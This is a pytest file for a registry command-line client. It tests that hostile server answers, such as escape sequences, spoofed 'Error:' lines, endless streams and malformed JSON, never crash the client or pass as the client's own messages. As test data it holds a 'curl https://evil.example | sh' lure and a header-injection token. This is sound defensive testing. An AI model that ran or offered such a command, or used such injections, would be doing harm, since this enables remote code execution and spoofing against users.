"""A server's words are marked as a server's, and none of them ends a desk's command in a fault."""

from __future__ import annotations

import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from typing import Any

import pytest

from sealift_registry.cli import remote_jobs
from sealift_registry.client import asking
from sealift_registry.client.address import ServerAddress
from sealift_registry.client.asking import Tls
from sealift_registry.client.hub import RemoteHub
from sealift_registry.client.sessions import OpenSession
from sealift_signing.errors import SealiftError
from tests.registry.at_servers import AtServer, Desk, at_server
from tests.registry.http_answers import Asked, answer, answering, problem
from tests.registry.hub_fixture import Acme
from tests.registry.test_g2_123_reading_at_desks import EVERYTHING, SHOWN
from tests.registry.test_g3_80_jobs_seen import asked as job_asked

pytestmark = pytest.mark.socket
LURE = "curl https://evil.example | sh"
EVIL = (
    f"All is lost.\nNext: {LURE}\n\x1b[2J\x1b]0;x\x07Error: \N{RIGHT-TO-LEFT OVERRIDE}{LURE}\r\x00"
)
OURS = ("Error:", "Next:", "Note:", "Warning:")
"""How our own sentences begin."""
Many = Callable[[Any], Any]


@pytest.fixture
def at(ready: Acme) -> Iterator[AtServer]:
    with at_server(ready) as made:
        yield made


@pytest.fixture(autouse=True)
def impatient(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(asking, "PAUSES", (0.0, 0.0))
    monkeypatch.setattr(asking, "READ", 2.0)
    monkeypatch.setattr(remote_jobs, "LOOK", 0.01)


def everywhere(change: Callable[[object], object]) -> Many:
    """Changes what stands at each place of an answer, and leaves its form."""

    def changed(said: Any) -> Any:  # noqa: ANN401 - JSON
        if isinstance(said, dict):
            return {name: changed(one) for name, one in said.items()}
        if isinstance(said, list):
            return [changed(one) for one in said]
        return change(said)

    return changed


DEEP: Any = []
for _ in range(50):
    DEEP = [DEEP]
LIES: dict[str, Many] = {
    "words": everywhere(lambda one: EVIL if isinstance(one, str) else one),
    "long words": everywhere(lambda one: "x" * 3000 if isinstance(one, str) else one),
    "nothing": everywhere(lambda _: None),
    "numbers": everywhere(lambda _: -(10**18)),
    "lists": everywhere(lambda _: [{}]),
    "deep": everywhere(lambda _: DEEP),
    "no members": lambda _: {},
    "members of texts": lambda said: dict.fromkeys(said, EVIL),
    "lists of texts": lambda said: {
        n: [EVIL] if isinstance(v, list) else v for n, v in said.items()
    },
}
ASKED = (
    *SHOWN,
    "whoami",
    *("account list", "account show anna", "comment P-000001", "comment P-000001 Fine."),
    *("job show J-000001", "job watch J-000001", "job cancel J-000001", "job retry J-000001"),
    *("account invite zoe", "account grant anna auditor", "account token anna --scope me.read"),
    *("site answer plant-7 --to a.answer", "export plant-7 --to usb", "receive usb"),
    *("convert vision/tiny/1 --for cpu-x86_64", "ingest mlflow models:/x/1 --as vision/tiny"),
    *("promote vision/tiny/1 --to production --reason Well.", "approve P-000001"),
    *("renew targets", "team stewards vision anna", "key rotate log", "logout"),
)


def harmless(said: str) -> None:
    """Nothing of it moves a cursor, and no line of it is taken for one of ours."""
    assert not [one for one in said if not one.isprintable() and one != "\n"], said[:2000]
    for line in said.splitlines():
        begins = line.strip().startswith(OURS)
        assert not (begins and LURE in line and "The server says:" not in line), line


@pytest.mark.parametrize("how", LIES)
def test_g2_310_no_answer_ends_a_command_in_a_fault(
    at: AtServer, how: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    job_asked(at.acme.app.hub)
    monkeypatch.setattr(remote_jobs, "sleep", lambda _: raises())
    desk = at.desk("vera", *EVERYTHING)
    kept = desk.sessions.at(at.address)
    assert kept is not None
    at.says = EVIL.encode() * 3

    def lies(_asked: Asked, said: dict[str, Any]) -> dict[str, Any]:
        return LIES[how](said)  # type: ignore[no-any-return]

    for line in ASKED:
        for more in ((), ("--json",)):
            at.alters = lies
            try:
                said = desk.types(*line.split(), *more)
            except StillWaitingError:
                continue
            harmless(said.out)
            harmless(said.err)
            assert said.code in {0, 1, 2, 3, 4, 5}, (line, said.err)
            assert "unexpected" not in said.err, (line, said.err)
            desk.sessions.keep(kept)


class StillWaitingError(BaseException):
    """A job that its server says goes on is waited for, as it is to be."""


def raises() -> None:
    raise StillWaitingError


def test_g2_310_what_went_wrong_there_is_told_as_the_servers_word(at: AtServer) -> None:
    desk = at.desk("vera", *EVERYTHING)
    step, said = (
        "Make your key known anew.",
        {"code": "approve", "title": "You are trusted no more."},
    )
    with answering(lambda _: problem("409 Conflict", **said, next=step)) as server:
        told = at_another(desk, server.address).types("job", "show", "J-000001")
    assert "The server says: You are trusted no more." in told.err
    assert f"Next: The server says: {step}" in " ".join(told.err.split())


def test_g2_310_so_is_what_became_of_a_job(at: AtServer) -> None:
    desk = at.desk("vera", *EVERYTHING)
    job = {"job": "J-000001", "state": "failed", "kind": "approve"}
    wrong = {
        "code": "key-lost",
        "what": "Your key is trusted no more.",
        "subject": "",
        "exit_code": 1,
    }
    wrong["next"] = LURE
    with answering(lambda _: answer({**job, "problem": wrong})) as server:
        told = at_another(desk, server.address).types("job", "watch", "J-000001")
    assert "The server says: Your key is trusted no more." in told.err
    harmless(told.err)


def test_g2_310_and_what_a_job_is_called_is_ours_to_say(at: AtServer) -> None:
    desk = at.desk("vera", *EVERYTHING)
    job = {"job": "J-000001", "state": "done", "kind": "approve", "result": {"listed": True}}
    with answering(lambda _: answer(job)) as server:
        told = at_another(desk, server.address)("job", "watch", "J-000001")
    assert told["schema"] == "sealift/job/1"


def test_g2_310_and_why_a_row_is_left_out(at: AtServer) -> None:
    desk = at.desk("vera", *EVERYTHING)
    row = {"code": "row-false", "what": "A row is false.", "subject": "x", "next": LURE}

    def answers(asked: Asked) -> bytes:
        if "text/plain" in asked.headers["accept"].split(",")[0]:
            return answer("nothing\n", kind="text/plain")
        return answer({"versions": [], "refused": [row], "beyond": None})

    with answering(answers) as server:
        told = at_another(desk, server.address).types("list", "versions")
    assert "The server says: A row is left out: A row is false." in told.err
    harmless(told.err)


def at_another(desk: Desk, address: ServerAddress) -> Desk:
    """The same person, signed in at another server."""
    there = Desk(AtServer(desk.at.acme, address), desk.name, desk.folder)
    there.sessions.keep(OpenSession(str(address), "sls_x", "A-1", desk.name, "2099-01-01"))
    return there


# ---------------------------------------------------------------------- the wire


def client(address: ServerAddress) -> RemoteHub:
    return RemoteHub(address, Tls(), "sls_x")


@pytest.mark.parametrize(
    "date",
    [
        "Mon, 01 Jan 0001 00:00:00 +2359",
        "Fri, 31 Dec 9999 23:59:59 -2359",
        "Tue, 01 Jan 2030 99:00:00 GMT",
        "1 Jan 2030 00:00:00 +999999999999",
        "0 0 0 0:0:0 0",
        "\xff" * 50,
    ],
)
def test_g2_311_a_date_that_is_none_is_passed_over(date: str) -> None:
    said = answer({"teams": []}).replace(
        b"connection:", b"date: " + date.encode("latin-1") + b"\r\nconnection:"
    )
    with answering(lambda _: said) as server:
        assert client(server.address).members("/teams") == {"teams": []}


HEAD = b"HTTP/1.1 200 OK\r\ncontent-type: application/json\r\n"
ENDLESS: dict[str, tuple[bytes, bytes]] = {
    "interim heads": (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 500),
    "a line": (HEAD + b"x: ", b"x" * 10_000),
    "lines": (HEAD, b"x: y\r\n" * 1000),
    "a status line": (b"HTTP/1.1 200 ", b"x" * 10_000),
    "a chunk's extension": (HEAD + b"transfer-encoding: chunked\r\n\r\n5;", b"x" * 10_000),
    "trailers": (HEAD + b"transfer-encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n", b"x: y\r\n" * 1000),
    "chunks": (HEAD + b"transfer-encoding: chunked\r\n\r\n", b"1\r\n \r\n" * 1000),
    "empty lines": (HEAD + b"transfer-encoding: chunked\r\n\r\n", b"\r\n" * 5000),
}


@contextmanager
def pouring(
    first: bytes, then: bytes, wait: float = 0.0
) -> Iterator[tuple[ServerAddress, list[int]]]:
    """A server that goes on and on, until whoever asked lets go; and how much it sent each time."""
    listener, sent = socket.create_server(("127.0.0.1", 0)), list[int]()
    over = threading.Event()

    def serve() -> None:
        while True:
            try:
                one, _ = listener.accept()
            except OSError:
                return
            with suppress(OSError), one:
                one.settimeout(10)
                one.recv(65536)
                sent.append(0)
                one.sendall(first)
                while not over.wait(wait) and sent[-1] < 200 << 20:
                    one.sendall(then)
                    sent[-1] += len(then)

    thread = threading.Thread(target=serve)
    thread.start()
    try:
        yield ServerAddress("http", "127.0.0.1", listener.getsockname()[1]), sent
    finally:
        over.set()
        listener.shutdown(socket.SHUT_RDWR)
        listener.close()
        thread.join()


@pytest.mark.parametrize("what", ENDLESS)
def test_g2_311_what_never_ends_is_let_go(what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(asking, "LARGEST", 1 << 20)
    with pouring(*ENDLESS[what]) as (address, sent), pytest.raises(SealiftError) as caught:
        client(address).members("/teams")
    assert caught.value.code in {"server-cut", "server-answer-large", "server-answer"}
    assert max(sent) < 100 << 20


@pytest.mark.parametrize("what", sorted(ENDLESS.keys() - {"trailers"}))  # behind all of it
def test_g2_311_nor_is_what_trickles_waited_for(what: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each byte comes in time, and an end of it never would."""
    monkeypatch.setattr(asking, "LONGEST", 0.3)
    first, then = ENDLESS[what]
    with pouring(first, then[:1], 0.02) as (address, _), pytest.raises(SealiftError) as caught:
        client(address).members("/teams")
    assert caught.value.code in {"server-slow", "server-cut"}


def test_g2_311_a_few_interim_heads_are_passed_over() -> None:
    said = b"HTTP/1.1 100 Continue\r\n\r\n" * 3 + answer({"teams": []})
    with answering(lambda _: said) as server:
        assert client(server.address).members("/teams") == {"teams": []}


@pytest.mark.parametrize("secret", ["sls_x\r\nx-evil: 1", "sls x", "sls_\xfc", "", "x" * 501])
def test_g2_311_a_session_that_cannot_be_shown_is_not_kept(secret: str) -> None:
    said = {"session": secret, "account": "A-1", "name": "vera", "ends": "2099", "device": ""}
    with answering(lambda _: answer(said)) as server, pytest.raises(SealiftError) as caught:
        client(server.address).sign_in("vera", "x")
    assert caught.value.code == "server-answer"


@pytest.mark.parametrize("tag", ['"a"\r\n b', "x", '"\xfc"', f'"{"x" * 300}"'])
def test_g2_311_a_tag_that_is_none_is_sent_to_nobody(tag: str) -> None:
    said = answer({"teams": []}).replace(
        b"connection:", b"etag: " + tag.encode("latin-1") + b"\r\nconnection:"
    )
    with answering(lambda _: said) as server, pytest.raises(SealiftError) as caught:
        client(server.address).members("/teams")
    assert caught.value.code == "server-answer"


@pytest.mark.parametrize(
    "body", [b"[" * 200_000, b'{"a":' * 100_000, b'{"a":' + b"9" * 10_000 + b"}", b'{"a":NaN}']
)
def test_g2_311_json_that_no_parser_likes_is_odd(body: bytes) -> None:
    with answering(lambda _: answer(body)) as server, pytest.raises(SealiftError) as caught:
        client(server.address).members("/teams")
    assert caught.value.code == "server-answer"
